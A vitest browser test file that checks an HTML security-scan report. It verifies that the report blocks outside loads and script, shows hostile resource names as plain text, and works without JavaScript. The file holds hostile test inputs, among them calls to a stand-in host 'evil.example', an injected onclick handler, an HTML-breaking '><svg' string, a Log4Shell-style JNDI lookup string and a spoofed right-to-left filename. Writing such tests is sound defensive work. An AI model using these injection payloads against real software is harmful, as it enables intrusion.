/** Whatever somebody named, and whoever opens it: the report stays text, asks nothing of anyone, and is read without a script. */
import { describe, expect, it } from 'vitest';
import { printable } from '../../../src/text/printable.ts';
import { hasBrowser } from '../../support/browser.ts';
import { hostileReport } from '../../support/hostile-report.ts';
import { goTo, htmlPages, inPage, resultOf, rowsOf, viewNames } from '../../support/html-page.ts';
import { sampleReport } from '../../support/sample-report.ts';

const report = sampleReport();
const partial = sampleReport({ partial: true });
const hostile = hostileReport();

describe.skipIf(!hasBrowser())('the HTML report', () => {
  const { open } = htmlPages();

  it('opens every part without a fault and asks nothing of anyone', async () => {
    const { page, faults } = await open(report);
    for (const view of viewNames) {
      await goTo(page, `#${view}`);
      await page.locator(`#${view}`).waitFor();
    }
    await goTo(page, `#finding-${report.findings[0]?.id}`);
    await page.locator('dialog').waitFor();
    expect(faults).toEqual([]);
  });

  it('cannot load, send or run anything else, even when told to', async () => {
    const { page } = await open(report);
    const refused = await inPage(
      page,
      `(async () => {
        const violations = [];
        document.addEventListener('securitypolicyviolation', (event) =>
          violations.push(event.effectiveDirective));
        const image = document.createElement('img');
        image.src = 'https://evil.example/x.png';
        document.body.append(image);
        try { document.body.innerHTML = '<p>'; } catch { violations.push('trusted types'); }
        try { document.body.setAttribute('onclick', 'window.pwned = true'); } catch {
          violations.push('no handler');
        }
        document.body.click();
        document.body.setAttribute('style', 'color: red');
        await fetch('https://evil.example/').catch(() => undefined);
        await new Promise((done) => setTimeout(done, 100));
        return violations;
      })()`,
    );
    expect(refused).toEqual(
      expect.arrayContaining([
        'img-src',
        'connect-src',
        'trusted types',
        'no handler',
        'style-src-attr',
      ]),
    );
    expect(await inPage(page, "'pwned' in window")).toBe(false);
  });

  it('shows hostile names as the text that they are, in every part', async () => {
    const { page, faults } = await open(hostile);
    const elements = () => page.locator('img, iframe, object, embed, main svg *:not(rect)').count();
    for (const view of viewNames) {
      await goTo(page, `#${view}`);
      await page.locator(`#${view}`).waitFor();
      expect(await elements(), view).toBe(0);
    }
    const first = new Map(hostile.findings.map((finding) => [finding.resource.name, finding]));
    for (const [name, { id, resource }] of first) {
      await goTo(page, `#finding-${id}`);
      const facts = page.locator('dialog dl.facts').first();
      await facts.locator('dd', { hasText: id }).waitFor();
      expect(await facts.locator('dt:text-is("Resource") + dd bdi').textContent()).toBe(
        printable(name),
      );
      expect(await facts.locator('dt:text-is("ARN") + dd bdi').textContent()).toBe(
        printable(resource.arn),
      );
      expect(await page.locator('dialog h2 bdi').textContent()).toBe(
        printable(`the setting is off for ${name}`),
      );
      expect(await elements(), name.slice(0, 40)).toBe(0);
    }
    expect(await inPage(page, "'pwned' in window")).toBe(false);
    expect(faults).toEqual([]);
  });

  it('finds a hostile name by its own words', async () => {
    const { page } = await open(hostile, '#findings?group=none');
    for (const name of [
      'invoice\u202Efdp.exe',
      "'><svg",
      '${jndi:ldap://evil.example/a}',
      '🪣🪣',
    ]) {
      const [word = ''] = name.split(' ');
      const found = hostile.findings.filter(({ resource, reasons }) =>
        [resource.name, ...reasons].some((text) => text.toLowerCase().includes(word.toLowerCase())),
      ).length;
      await page.getByLabel('Search', { exact: true }).fill(word);
      await expect
        .poll(() => resultOf(page).textContent())
        .toBe(`${found} of ${hostile.findings.length} findings.`);
    }
  });

  it('says what it says without JavaScript', async () => {
    const { page, faults } = await open(report, '', { javaScriptEnabled: false });
    const text = (await page.locator('body').textContent()) ?? '';
    expect(text).toContain('findings fail');
    expect(text).toContain('Not everything was read');
    expect(text).toContain('report.json');
    for (const gap of report.coverage.gaps) expect(text).toContain(gap.cause);
    for (const skipped of report.scan.skippedRegions) expect(text).toContain(skipped.reason);
    const failing = report.findings.filter(({ outcome }) => outcome === 'fail');
    for (const check of new Set(failing.map((finding) => finding.check))) {
      expect(text).toContain(check);
    }
    for (const view of viewNames) expect(await page.locator(`#${view}`).isVisible()).toBe(true);
    expect(faults).toEqual([]);
  });

  it('shouts when the scan is partial', async () => {
    const { page } = await open(partial);
    const alarm = page.locator('.alarm').first();
    expect(await alarm.textContent()).toMatch(/PARTIAL SCAN.*deadline of 14 minutes/s);
    const box = await alarm.boundingBox();
    expect(box && box.y + box.height).toBeLessThan(900);
  });

  it('says that a file is damaged, and shows no list of a part of it', async () => {
    const { page } = await open(report, '', { javaScriptEnabled: false });
    const whole = await page.content();
    expect(whole).toContain('class="data">');
    const damaged = whole.replace(/(class="data">)[^<]{400}/, '$1');
    const context = page.context().browser();
    const other = await context?.newPage();
    await other?.setContent(damaged, { waitUntil: 'load' });
    await expect
      .poll(() => other?.locator('#explorer [role=alert]').textContent())
      .toContain('The findings cannot be shown');
    expect(await rowsOf(page).count()).toBe(0);
    await other?.close();
  });
});
